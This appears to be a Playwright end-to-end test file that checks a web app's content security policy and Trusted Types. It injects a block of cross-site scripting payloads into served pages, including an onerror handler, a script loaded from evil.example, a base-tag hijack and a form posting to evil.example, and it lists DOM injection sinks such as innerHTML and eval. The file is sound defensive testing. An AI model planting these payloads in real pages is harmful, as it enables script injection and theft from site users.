"""The content policy holds in a real browser: what somebody would plant on a page does not run, and is noticed."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.e2e.hall import Hall

PLANTED = """<script>window.planted = "script"</script>
<img src="/nothing.png" onerror="window.planted = 'handler'">
<p id="styled" style="position: fixed">x</p>
<script src="https://evil.example/planted.js"></script>
<script type="module" src="data:text/javascript,window.planted='data'"></script>
<iframe src="/"></iframe>
<base href="https://evil.example/">
<form action="https://evil.example/" id="sent"><input name="x"></form>"""
BROKEN_BY_MARKUP = {"script-src-elem", "script-src-attr", "style-src-attr", "frame-src", "base-uri"}
SINKS = {
    "innerHTML": "document.body.innerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write": "document.write('<b>x</b>')",
    "eval": "eval('1')",
    "script.text": "document.createElement('script').text = 'window.planted = 1'",
    "script.src": "document.createElement('script').src = '/static/x.js'",
    "srcdoc": "document.createElement('iframe').srcdoc = '<b>x</b>'",
    "a policy of one's own": "trustedTypes.createPolicy('planted', {createHTML: (text) => text})",
}


@pytest.fixture
def addresses(hall: Hall) -> list[str]:
    """The front door, a phone and the board: what is open to everybody, and the way in of staff."""
    there, code = hall.running.address, hall.running.stage.code
    return [f"{there}{path}" for path in ("/", f"/j/{code}", f"/b/{code}", "/sign-in", "/nothing")]


def test_what_is_planted_on_a_page_does_not_run(browser: Browser, addresses: list[str], broken: list[str]) -> None:
    page = browser.new_context().new_page()
    asked: set[str | None] = set()

    def plant(route: Route) -> None:
        """Let the page come as it is, with something more in it; and see who is asked for anything."""
        asked.add(urlsplit(route.request.url).hostname)
        if route.request.resource_type == "document" and asked == {"127.0.0.1"}:
            answer = route.fetch()
            route.fulfill(response=answer, body=answer.text().replace("</body>", f"{PLANTED}</body>"))
        else:
            route.continue_()

    page.route("**/*", plant)
    for address in addresses:
        broken.clear()
        page.goto(address)
        page.wait_for_load_state("networkidle") if "/b/" not in address and "/j/" not in address else None
        assert page.evaluate("window.planted") is None, address
        assert page.evaluate("getComputedStyle(document.getElementById('styled')).position") == "static", address
        assert page.evaluate("document.baseURI") == page.url, address
        page.evaluate("document.getElementById('sent').submit()")
        page.wait_for_timeout(50)
        assert page.url.startswith(address.partition("/j/")[0].partition("/b/")[0]), address
        assert {each.split()[0] for each in broken} >= BROKEN_BY_MARKUP, (address, broken)
    assert asked == {"127.0.0.1"}
    broken.clear()
    page.context.close()


@pytest.mark.parametrize("sink", SINKS)
def test_no_script_can_turn_text_into_markup(
    browser: Browser, addresses: list[str], broken: list[str], sink: str
) -> None:
    page = browser.new_context().new_page()
    for address in addresses:
        page.goto(address)
        broken.clear()
        assert attempted(page, SINKS[sink]) != "done", address
        assert page.evaluate("window.planted") is None
        assert broken != [], address
    broken.clear()
    page.context.close()


def attempted(page: Page, code: str) -> str:
    """Run it as a script of the page itself would be run; the name of the error that it ended with."""
    tools = page.context.new_cdp_session(page)
    tried = f"(() => {{try {{{code}; return 'done'}} catch (error) {{return error.name}}}})()"
    asked = {"expression": tried, "returnByValue": True, "allowUnsafeEvalBlockedByCSP": False}
    found = tools.send("Runtime.evaluate", asked)["result"]["value"]
    tools.detach()
    return str(found)


def test_what_breaks_no_policy_is_left_alone(browser: Browser, addresses: list[str], broken: list[str]) -> None:
    page = browser.new_context().new_page()
    for address in addresses:
        page.goto(address)
    assert attempted(page, "document.body.append('x')") == "done"
    assert broken == []
    page.context.close()
